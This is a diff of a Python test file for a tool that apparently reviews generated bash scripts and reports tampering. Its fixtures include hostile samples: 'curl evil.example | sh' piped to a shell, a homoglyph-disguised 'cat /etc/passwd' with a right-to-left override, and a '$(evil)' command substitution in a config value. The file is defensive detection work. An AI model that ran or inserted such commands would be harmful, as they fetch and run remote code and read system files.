@@ -5,7 +5,7 @@ import re
 import pytest
 from hypothesis import assume, given, settings
 from hypothesis import strategies as st
-from tests.support.review import comparison, of_version, region, rehashed, replaced, script, subject
+from tests.support.review import after, comparison, of_version, outside, region, rehashed, replaced, script, subject
 
 from podsand_gen.errors import ScriptError
 from podsand_gen.review.edits import config_constants
@@ -56,12 +56,11 @@ def test_a_hash_line_alone_that_was_edited_is_told() -> None:
     edited(replaced(script(), f"core/log sha256:{digest[1]}", f"core/log sha256:{'0' * 64}"), "core/log", "the first line")
 
 
-def test_code_between_regions_is_told() -> None:
+def test_code_at_the_end_of_a_region_and_between_two_is_told() -> None:
     evil = "curl evil.example | sh\n"
 
-    edited(replaced(script(), "# <<< core/log\n", f"# <<< core/log\n{evil}"), "after core/log", "no region")
-    titled = replaced(script(), "\n# --- commands\n", f"\n# --- commands\n{evil}")
-    edited(titled, "after image/volume", "outside of the regions")
+    edited(after(script(), "core/log", evil), "core/log", "the body was edited")
+    edited(outside(script(), evil, "commands"), "after image/volume", "outside of the regions")
 
 
 def test_code_before_the_regions_and_after_them_is_told() -> None:
@@ -71,17 +70,17 @@ def test_code_before_the_regions_and_after_them_is_told() -> None:
 
 
 def test_a_forged_region_is_told() -> None:
-    forged = "# >>> core/extra sha256:" + "0" * 64 + " Harmless.\ncurl evil.example | sh\n# <<< core/extra\n"
+    forged = "# >>> core/extra sha256:" + "0" * 64 + " Harmless.\ncurl evil.example | sh\n"
 
-    edited(replaced(script(), "# <<< core/log\n", f"# <<< core/log\n{forged}"), "core/extra", "no such region")
+    edited(after(script(), "core/log", forged), "core/extra", "no such region")
 
 
-def test_a_region_that_is_closed_and_opened_again_inside_itself_is_told() -> None:
+def test_a_region_that_is_opened_again_inside_itself_is_told() -> None:
     lines = region(script(), "core/log").splitlines(keepends=True)
-    forged = "".join([*lines[:3], "# <<< core/log\n", "evil() { :; }\n", *lines])
+    forged = "".join([*lines[:3], "evil() { :; }\n", *lines])
 
     edited(script().replace("".join(lines), forged), "core/log", "second time")
-    edited(script().replace("".join(lines), forged), "after core/log", "no region")
+    edited(script().replace("".join(lines), forged), "core/log", "the body was edited")
 
 
 def test_a_duplicated_region_is_told_because_bash_takes_the_last() -> None:
@@ -143,7 +142,7 @@ def test_windows_line_ends_are_told_as_such() -> None:
 
 
 def test_characters_that_deceive_are_told_with_their_name_and_line() -> None:
-    text = replaced(script(), "# <<< core/log\n", "# <<< core/log\nc\u0430t /etc/passwd # \u202eecho\n")
+    text = after(script(), "core/log", "c\u0430t /etc/passwd # \u202eecho\n")
 
     found = comparison(text).oddities
     line = text[: text.index("\u0430")].count("\n") + 1
@@ -172,7 +171,8 @@ def test_a_body_of_another_version_is_told_and_explained_by_it_when_its_hash_lin
 @pytest.mark.parametrize(
     ("old", "new"),
     [
-        ("# <<< core/log\n", "# <<< core/log\nevil\n"),
+        ("\n# --- driver\n", "\n# --- driver\nevil\n"),
+        ("\n# --- driver\n", "\nevil\n\n# --- driver\n"),
         ('\nmain "$@"\n}', '\nevil\nmain "$@"\n}'),
         ("CFG_SANDBOX_MEMORY='8g'", "CFG_SANDBOX_MEMORY='9g'"),
         ("readonly CFG_SANDBOX_MEMORY='8g'\n", "readonly CFG_SANDBOX_MEMORY=$(evil)\n"),
